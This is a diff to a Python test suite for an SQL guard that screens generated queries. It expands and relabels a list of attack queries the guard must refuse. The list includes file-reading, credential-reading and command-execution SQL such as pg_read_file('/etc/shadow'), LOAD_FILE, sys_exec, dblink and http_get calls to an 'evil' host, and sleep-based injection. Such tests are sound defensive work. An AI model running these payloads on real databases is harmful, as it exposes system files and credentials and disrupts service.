@@ -8,12 +8,15 @@ from collections.abc import Iterator
 import duckdb
 import pandas as pd
 import pytest
+import sqlglot
 from sqlalchemy import Engine, create_engine
+from sqlglot import exp
 
 from backend.connections.executor import execute_query, open_sqlite_read_only
 from backend.connections.introspection import introspect
 from backend.connections.snapshot import ColumnInfo, SchemaSnapshot, TableInfo
 from backend.demo import DEMO_DB_PATH
+from backend.nl2sql.allowed_functions import ALLOWED_ANONYMOUS, ALLOWED_FUNCTION_CLASSES
 from backend.nl2sql.errors import GuardRefused, SqlNotParseable
 from backend.nl2sql.guard import guard_sql
 from tests.conftest import BACKENDS, create_pg_database, drop_pg_database
@@ -165,69 +168,69 @@ ATTACKS = [
     ("mysql", "SELECT * FROM orders FOR UPDATE NOWAIT", "locking_clause"),
     ("duckdb", "SELECT * INTO t2 FROM orders", "select_into"),
     # --- dangerous functions ---
-    ("postgres", "SELECT pg_sleep(10)", "dangerous_function"),
-    ("postgres", "SELECT pg_sleep_for('5 minutes')", "dangerous_function"),
-    ("postgres", "SELECT * FROM orders WHERE pg_sleep(1) IS NOT NULL", "dangerous_function"),
-    ("postgres", "SELECT pg_catalog.pg_sleep(1)", "dangerous_function"),
-    ("postgres", "SELECT pg_read_file('/etc/passwd')", "dangerous_function"),
-    ("postgres", "SELECT pg_read_binary_file('/etc/shadow')", "dangerous_function"),
-    ("postgres", "SELECT pg_ls_dir('.')", "dangerous_function"),
-    ("postgres", "SELECT * FROM pg_ls_dir('/')", "dangerous_function"),
-    ("postgres", "SELECT pg_stat_file('postgresql.conf')", "dangerous_function"),
-    ("postgres", "SELECT lo_import('/etc/passwd')", "dangerous_function"),
-    ("postgres", "SELECT lo_export(16384, '/tmp/x')", "dangerous_function"),
-    ("postgres", "SELECT lo_get(16384)", "dangerous_function"),
-    ("postgres", "SELECT dblink('host=evil', 'select 1')", "dangerous_function"),
-    ("postgres", "SELECT dblink_exec('host=evil', 'drop table x')", "dangerous_function"),
-    ("postgres", "SELECT * FROM dblink('dbname=x', 'select 1') AS t(a int)", "dangerous_function"),
-    ("postgres", "SELECT http_get('http://evil.example')", "dangerous_function"),
-    ("postgres", "SELECT pg_terminate_backend(pid) FROM orders", "dangerous_function"),
-    ("postgres", "SELECT pg_advisory_lock(1)", "dangerous_function"),
-    ("postgres", "SELECT pg_reload_conf()", "dangerous_function"),
-    ("postgres", "SELECT set_config('transaction_read_only', 'off', false)", "dangerous_function"),
-    ("postgres", "SELECT current_setting('data_directory')", "dangerous_function"),
-    ("postgres", "SELECT nextval('orders_id_seq')", "dangerous_function"),
-    ("postgres", "SELECT setval('orders_id_seq', 1)", "dangerous_function"),
-    ("postgres", "SELECT query_to_xml('delete from orders', true, false, '')", "dangerous_function"),
-    ("postgres", "SELECT (SELECT max(id) FROM orders) + length(pg_read_file('x'))", "dangerous_function"),
-    ("mysql", "SELECT SLEEP(5)", "dangerous_function"),
-    ("mysql", "SELECT BENCHMARK(100000000, MD5('x'))", "dangerous_function"),
-    ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "dangerous_function"),
-    ("mysql", "SELECT * FROM orders WHERE id = 1 AND SLEEP(3)", "dangerous_function"),
-    ("mysql", "SELECT GET_LOCK('x', 10)", "dangerous_function"),
-    ("mysql", "SELECT sys_exec('id')", "dangerous_function"),
+    ("postgres", "SELECT pg_sleep(10)", "function_not_allowed"),
+    ("postgres", "SELECT pg_sleep_for('5 minutes')", "function_not_allowed"),
+    ("postgres", "SELECT * FROM orders WHERE pg_sleep(1) IS NOT NULL", "function_not_allowed"),
+    ("postgres", "SELECT pg_catalog.pg_sleep(1)", "function_not_allowed"),
+    ("postgres", "SELECT pg_read_file('/etc/passwd')", "function_not_allowed"),
+    ("postgres", "SELECT pg_read_binary_file('/etc/shadow')", "function_not_allowed"),
+    ("postgres", "SELECT pg_ls_dir('.')", "function_not_allowed"),
+    ("postgres", "SELECT * FROM pg_ls_dir('/')", "function_not_allowed"),
+    ("postgres", "SELECT pg_stat_file('postgresql.conf')", "function_not_allowed"),
+    ("postgres", "SELECT lo_import('/etc/passwd')", "function_not_allowed"),
+    ("postgres", "SELECT lo_export(16384, '/tmp/x')", "function_not_allowed"),
+    ("postgres", "SELECT lo_get(16384)", "function_not_allowed"),
+    ("postgres", "SELECT dblink('host=evil', 'select 1')", "function_not_allowed"),
+    ("postgres", "SELECT dblink_exec('host=evil', 'drop table x')", "function_not_allowed"),
+    ("postgres", "SELECT * FROM dblink('dbname=x', 'select 1') AS t(a int)", "function_not_allowed"),
+    ("postgres", "SELECT http_get('http://evil.example')", "function_not_allowed"),
+    ("postgres", "SELECT pg_terminate_backend(pid) FROM orders", "function_not_allowed"),
+    ("postgres", "SELECT pg_advisory_lock(1)", "function_not_allowed"),
+    ("postgres", "SELECT pg_reload_conf()", "function_not_allowed"),
+    ("postgres", "SELECT set_config('transaction_read_only', 'off', false)", "function_not_allowed"),
+    ("postgres", "SELECT current_setting('data_directory')", "function_not_allowed"),
+    ("postgres", "SELECT nextval('orders_id_seq')", "function_not_allowed"),
+    ("postgres", "SELECT setval('orders_id_seq', 1)", "function_not_allowed"),
+    ("postgres", "SELECT query_to_xml('delete from orders', true, false, '')", "function_not_allowed"),
+    ("postgres", "SELECT (SELECT max(id) FROM orders) + length(pg_read_file('x'))", "function_not_allowed"),
+    ("mysql", "SELECT SLEEP(5)", "function_not_allowed"),
+    ("mysql", "SELECT BENCHMARK(100000000, MD5('x'))", "function_not_allowed"),
+    ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "function_not_allowed"),
+    ("mysql", "SELECT * FROM orders WHERE id = 1 AND SLEEP(3)", "function_not_allowed"),
+    ("mysql", "SELECT GET_LOCK('x', 10)", "function_not_allowed"),
+    ("mysql", "SELECT sys_exec('id')", "function_not_allowed"),
     ("mysql", "SELECT @@datadir", "server_variable"),
     ("mysql", "SELECT @@version", "server_variable"),
-    ("sqlite", "SELECT load_extension('/tmp/evil.so')", "dangerous_function"),
-    ("sqlite", "SELECT readfile('/etc/passwd')", "dangerous_function"),
-    ("sqlite", "SELECT writefile('/tmp/x', 'data')", "dangerous_function"),
-    ("sqlite", "SELECT fts3_tokenizer('simple')", "dangerous_function"),
-    ("sqlite", "SELECT * FROM fsdir('/')", "dangerous_function"),
-    ("sqlite", "SELECT sqlite_compileoption_get(0)", "dangerous_function"),
+    ("sqlite", "SELECT load_extension('/tmp/evil.so')", "function_not_allowed"),
+    ("sqlite", "SELECT readfile('/etc/passwd')", "function_not_allowed"),
+    ("sqlite", "SELECT writefile('/tmp/x', 'data')", "function_not_allowed"),
+    ("sqlite", "SELECT fts3_tokenizer('simple')", "function_not_allowed"),
+    ("sqlite", "SELECT * FROM fsdir('/')", "function_not_allowed"),
+    ("sqlite", "SELECT sqlite_compileoption_get(0)", "function_not_allowed"),
     ("sqlite", "SELECT * FROM orders WHERE id = ?", "parameters"),
     ("sqlite", "SELECT * FROM orders WHERE id = :id", "parameters"),
-    ("duckdb", "SELECT * FROM read_csv('/etc/passwd')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM read_csv_auto('/etc/passwd')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM read_parquet('s3://bucket/x.parquet')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM read_json('/tmp/x.json')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM read_json_auto('/tmp/x.json')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM read_text('/etc/hosts')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM read_blob('/etc/hosts')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM glob('/home/*')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM parquet_scan('x.parquet')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM sqlite_scan('/tmp/other.db', 'users')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM postgres_scan('dbname=x', 'public', 'users')", "dangerous_function"),
-    ("duckdb", "SELECT getenv('HOME')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM query('DELETE FROM orders')", "dangerous_function"),
-    ("duckdb", "SELECT * FROM duckdb_tables()", "dangerous_function"),
-    ("duckdb", "SELECT * FROM duckdb_settings()", "dangerous_function"),
-    ("duckdb", "SELECT * FROM pragma_table_info('orders')", "dangerous_function"),
+    ("duckdb", "SELECT * FROM read_csv('/etc/passwd')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM read_csv_auto('/etc/passwd')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM read_parquet('s3://bucket/x.parquet')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM read_json('/tmp/x.json')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM read_json_auto('/tmp/x.json')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM read_text('/etc/hosts')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM read_blob('/etc/hosts')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM glob('/home/*')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM parquet_scan('x.parquet')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM sqlite_scan('/tmp/other.db', 'users')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM postgres_scan('dbname=x', 'public', 'users')", "function_not_allowed"),
+    ("duckdb", "SELECT getenv('HOME')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM query('DELETE FROM orders')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM duckdb_tables()", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM duckdb_settings()", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM pragma_table_info('orders')", "function_not_allowed"),
     # --- catalog and file access through table names ---
     ("sqlite", "SELECT * FROM sqlite_master", "catalog_access"),
     ("sqlite", "SELECT sql FROM sqlite_schema", "catalog_access"),
     ("sqlite", "SELECT * FROM main.sqlite_master", "catalog_access"),
     ("sqlite", "SELECT * FROM sqlite_temp_master", "catalog_access"),
-    ("sqlite", "SELECT name FROM pragma_table_info('orders')", "dangerous_function"),
+    ("sqlite", "SELECT name FROM pragma_table_info('orders')", "function_not_allowed"),
     ("sqlite", "SELECT * FROM orders WHERE id IN (SELECT rowid FROM sqlite_master)", "catalog_access"),
     ("sqlite", "WITH a AS (SELECT * FROM sqlite_master), sqlite_master AS (SELECT 1) SELECT * FROM a", "catalog_access"),
     ("sqlite", "SELECT * FROM orders, (WITH sqlite_master AS (SELECT 1) SELECT * FROM sqlite_master) s, sqlite_master", "catalog_access"),
@@ -253,21 +256,21 @@ ATTACKS = [
     ("duckdb", "SELECT * FROM '/etc/passwd'", "unknown_table"),
     ("duckdb", "FROM 's3://bucket/data.parquet'", "unknown_table"),
     ("duckdb", "SELECT * FROM other.main.orders", "unknown_table"),
-    ("duckdb", "SELECT * FROM generate_series(1, 10) g JOIN duckdb_columns() c ON true", "dangerous_function"),
+    ("duckdb", "SELECT * FROM generate_series(1, 10) g JOIN duckdb_columns() c ON true", "function_not_allowed"),
     # --- the same attacks in other spellings ---
     ("postgres", "TABLE pg_shadow", "catalog_access"),
     ("postgres", "SELECT * FROM \"pg_catalog\".\"pg_shadow\"", "catalog_access"),
     ("postgres", "SELECT * FROM public.pg_shadow", "catalog_access"),
     ("postgres", "SELECT * FROM orders WHERE id = ANY(SELECT oid FROM pg_proc)", "catalog_access"),
-    ("postgres", "SELECT * FROM ROWS FROM (pg_sleep(1))", "dangerous_function"),
-    ("postgres", "SELECT * FROM orders o, LATERAL pg_ls_dir('.') f", "dangerous_function"),
-    ("postgres", "SELECT pg_sleep(1)::text", "dangerous_function"),
-    ("postgres", "SELECT * FROM orders WHERE id = (SELECT lo_from_bytea(0, 'x'))", "dangerous_function"),
-    ("postgres", "SELECT x.* FROM xmltable('/x' PASSING pg_read_file('a') COLUMNS a int) AS x", "table_function"),
+    ("postgres", "SELECT * FROM ROWS FROM (pg_sleep(1))", "function_not_allowed"),
+    ("postgres", "SELECT * FROM orders o, LATERAL pg_ls_dir('.') f", "function_not_allowed"),
+    ("postgres", "SELECT pg_sleep(1)::text", "function_not_allowed"),
+    ("postgres", "SELECT * FROM orders WHERE id = (SELECT lo_from_bytea(0, 'x'))", "function_not_allowed"),
+    ("postgres", "SELECT x.* FROM xmltable('/x' PASSING pg_read_file('a') COLUMNS a int) AS x", "function_not_allowed"),
     ("postgres", "SELECT * FROM orders FOR KEY SHARE", "locking_clause"),
-    ("postgres", "SELECT \"pg_sleep\"(1)", "dangerous_function"),
-    ("postgres", "SeLeCt PG_SLEEP(1)", "dangerous_function"),
-    ("mysql", "SELECT * FROM orders WHERE id = 1 UNION SELECT LOAD_FILE(0x2f6574632f706173737764)", "dangerous_function"),
+    ("postgres", "SELECT \"pg_sleep\"(1)", "function_not_allowed"),
+    ("postgres", "SeLeCt PG_SLEEP(1)", "function_not_allowed"),
+    ("mysql", "SELECT * FROM orders WHERE id = 1 UNION SELECT LOAD_FILE(0x2f6574632f706173737764)", "function_not_allowed"),
     ("mysql", "SELECT * FROM `mysql`.`user`", "catalog_access"),
     ("sqlite", "SELECT * FROM [sqlite_master]", "catalog_access"),
     ("sqlite", "SELECT * FROM `sqlite_master`", "catalog_access"),
@@ -275,8 +278,72 @@ ATTACKS = [
     ("sqlite", "SELECT * FROM temp.sqlite_master", "catalog_access"),
     ("duckdb", "SELECT * FROM orders POSITIONAL JOIN 'x.csv'", "unknown_table"),
     ("duckdb", "SELECT * FROM (FROM 'x.csv')", "unknown_table"),
-    ("duckdb", "SELECT (SELECT count(*) FROM read_csv('/etc/passwd'))", "dangerous_function"),
+    ("duckdb", "SELECT (SELECT count(*) FROM read_csv('/etc/passwd'))", "function_not_allowed"),
     ("duckdb", "PIVOT orders ON status USING count(*)", "read_only_statement"),
+    # --- functions that take a relation, schema, query or setting: not on the allow-list ---
+    ("postgres", "SELECT xpath('//secret/text()', schema_to_xml_and_xmlschema('hidden', true, false, ''))", "function_not_allowed"),
+    ("postgres", "SELECT database_to_xml_and_xmlschema(true, true, '')", "function_not_allowed"),
+    ("postgres", "SELECT query_to_xmlschema('select 1', true, false, '')", "function_not_allowed"),
+    ("postgres", "SELECT schema_to_xmlschema('public', true, false, '')", "function_not_allowed"),
+    ("postgres", "SELECT database_to_xmlschema(true, true, '')", "function_not_allowed"),
+    ("postgres", "SELECT table_to_xml('orders', true, false, '')", "function_not_allowed"),
+    ("postgres", "SELECT cursor_to_xmlschema('c', true, false, '')", "function_not_allowed"),
+    ("postgres", "SELECT to_regclass('hidden.creds')", "function_not_allowed"),
+    ("postgres", "SELECT has_table_privilege('hidden.creds', 'select')", "function_not_allowed"),
+    ("postgres", "SELECT current_user", "function_not_allowed"),
+    ("postgres", "SELECT version()", "function_not_allowed"),
+    ("postgres", "SELECT inet_server_addr()", "function_not_allowed"),
+    ("postgres", "SELECT txid_current()", "function_not_allowed"),
+    ("postgres", "SELECT row_to_json(o) FROM orders o WHERE length(lo_get(1)::text) > 0", "function_not_allowed"),
+    ("postgres", "SELECT json_populate_record(NULL::orders, '{}')", "function_not_allowed"),
+    ("postgres", "SELECT pg_catalog.lower('x')", "function_not_allowed"),
+    ("postgres", "SELECT public.lower('x')", "function_not_allowed"),
+    ("postgres", "SELECT repeat('x', 100000000)", "function_not_allowed"),
+    ("postgres", "SELECT 'hidden.creds'::regclass", "type_not_allowed"),
+    ("postgres", "SELECT 'hidden.creds'::regclass::oid", "type_not_allowed"),
+    ("postgres", "SELECT CAST('pg_authid' AS regclass)", "type_not_allowed"),
+    ("postgres", "SELECT 'now'::regproc", "type_not_allowed"),
+    ("postgres", "SELECT 'int4'::regtype", "type_not_allowed"),
+    ("postgres", "SELECT 'public'::regnamespace", "type_not_allowed"),
+    ("postgres", "SELECT 'postgres'::regrole", "type_not_allowed"),
+    ("postgres", "SELECT 1::oid", "type_not_allowed"),
+    ("postgres", "SELECT '<a/>'::xml", "type_not_allowed"),
+    ("postgres", "SELECT * FROM orders WHERE customer_id::regclass IS NOT NULL", "type_not_allowed"),
+    ("sqlite", "SELECT sqlite_version()", "function_not_allowed"),
+    ("sqlite", "SELECT sqlite_source_id()", "function_not_allowed"),
+    ("sqlite", "SELECT randomblob(100000000)", "function_not_allowed"),
+    ("sqlite", "SELECT zeroblob(100000000)", "function_not_allowed"),
+    ("sqlite", "SELECT changes()", "function_not_allowed"),
+    ("sqlite", "SELECT sqlite_offset(id) FROM orders", "function_not_allowed"),
+    ("duckdb", "SELECT current_setting('threads')", "function_not_allowed"),
+    ("duckdb", "SELECT version()", "function_not_allowed"),
+    ("duckdb", "SELECT current_database()", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM read_csv_auto('x.csv', header = true)", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM query_table('orders')", "function_not_allowed"),
+    ("duckdb", "SELECT * FROM which_secret('s3://x', 's3')", "function_not_allowed"),
+    ("duckdb", "SELECT 'abc'.upper()", "function_not_allowed"),
+    ("mysql", "SELECT USER()", "function_not_allowed"),
+    ("mysql", "SELECT DATABASE()", "function_not_allowed"),
+    ("mysql", "SELECT VERSION()", "function_not_allowed"),
+    ("mysql", "SELECT CONNECTION_ID()", "function_not_allowed"),
+    ("mysql", "SELECT UUID()", "function_not_allowed"),
+    ("mysql", "SELECT EXTRACTVALUE('<a>1</a>', '/a')", "function_not_allowed"),
+    ("mysql", "SELECT mysql.f()", "function_not_allowed"),
+    # --- incomplete and too deeply nested SQL: unparseable ---
+    ("postgres", "SELECT", "parseable_sql"),
+    ("sqlite", "SELECT", "parseable_sql"),
+    ("duckdb", "SELECT", "parseable_sql"),
+    ("mysql", "SELECT", "parseable_sql"),
+    ("postgres", "SELECT FROM orders", "parseable_sql"),
+    ("postgres", "SELECT (SELECT)", "parseable_sql"),
+    ("postgres", "SELECT " + "(" * 60 + "1" + ")" * 60, "sql_too_deep"),
+    ("sqlite", "SELECT " + "(" * 60 + "1" + ")" * 60, "sql_too_deep"),
+    ("duckdb", "SELECT " + "(" * 60 + "1" + ")" * 60, "sql_too_deep"),
+    ("mysql", "SELECT " + "(" * 60 + "1" + ")" * 60, "sql_too_deep"),
+    ("postgres", "SELECT " + "CASE WHEN 1 = 1 THEN " * 100 + "1" + " END" * 100, "sql_too_deep"),
+    ("sqlite", "SELECT " + "abs(" * 200 + "1" + ")" * 200, "sql_too_deep"),
+    ("sqlite", "SELECT " + " + ".join(["1"] * 5000), "sql_too_deep"),
+    ("postgres", "SELECT " + "(" * 5000, "sql_too_deep"),
 ]
 # fmt: on
 
@@ -546,3 +613,51 @@ def test_schema_qualified_tables_match_the_snapshot_schema() -> None:
     with pytest.raises(GuardRefused) as refused:
         guard_sql("SELECT * FROM staging.orders", snapshot=snapshot, row_cap=5)
     assert refused.value.details == {"rule": "unknown_table", "table": "staging.orders"}
+
+
+def _parse_call(name: str, dialect: str) -> exp.Expr:
+    for arguments in ("x", "x, 1", "", "x, 1, 2"):
+        try:
+            tree = sqlglot.parse_one(f"SELECT {name}({arguments})", read=dialect)
+        except sqlglot.errors.ParseError:
+            continue
+        return tree.expressions[0]  # type: ignore[no-any-return]
+    raise AssertionError(f"{name} does not parse as a call in {dialect}")
+
+
+@pytest.mark.parametrize("dialect", sorted(ALLOWED_ANONYMOUS))
+def test_every_allowed_name_is_reachable_as_written(dialect: str) -> None:
+    # A name listed as anonymous that sqlglot models with a class of its own is allowed only if
+    # that class is: otherwise the entry would be dead and the function refused.
+    dead = []
+    for name in sorted(ALLOWED_ANONYMOUS[dialect]):
+        node = _parse_call(name, dialect)
+        if not isinstance(node, exp.Func):
+            continue  # an operator in sqlglot's model (`mod` is `%`): nothing to allow
+        if not isinstance(node, exp.Anonymous) and type(node) not in ALLOWED_FUNCTION_CLASSES:
+            dead.append((name, type(node).__name__))
+    assert dead == []
+
+
+def test_every_function_class_and_type_exists() -> None:
+    assert all(issubclass(c, exp.Func) for c in ALLOWED_FUNCTION_CLASSES)
+    assert len(ALLOWED_FUNCTION_CLASSES) > 150
+
+
+@pytest.mark.parametrize("dialect", ["sqlite", "postgresql", "duckdb", "mysql"])
+def test_deeply_nested_sql_is_refused_without_recursion(
+    snapshot: SchemaSnapshot, dialect: str
+) -> None:
+    import sys
+
+    # Even with little stack left (a deep server call chain), the refusal is a 400.
+    limit = sys.getrecursionlimit()
+    sys.setrecursionlimit(400)
+    try:
+        with pytest.raises(SqlNotParseable) as refused:
+            guard_sql(
+                "SELECT " + "(" * 60 + "1" + ")" * 60, snapshot=snapshot, dialect=dialect, row_cap=5
+            )
+    finally:
+        sys.setrecursionlimit(limit)
+    assert refused.value.details["rule"] == "sql_too_deep"
